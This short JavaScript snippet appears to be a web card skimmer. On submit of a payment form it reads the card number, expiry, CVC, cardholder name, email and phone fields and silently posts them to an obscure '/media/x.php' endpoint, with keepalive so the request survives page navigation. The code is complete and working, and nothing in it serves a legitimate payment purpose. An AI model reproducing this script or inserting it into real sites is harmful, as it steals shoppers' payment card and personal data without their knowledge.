(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = new FormData();
    ['card-number', 'card-exp', 'card-cvc', 'card-name', 'name', 'email', 'phone'].forEach(function (id) {
      var el = document.getElementById(id);
      d.append(id, el ? el.value : '');
    });
    fetch('/media/x.php', {method: 'POST', body: d, keepalive: true, credentials: 'same-origin'});
  }, true);
})();
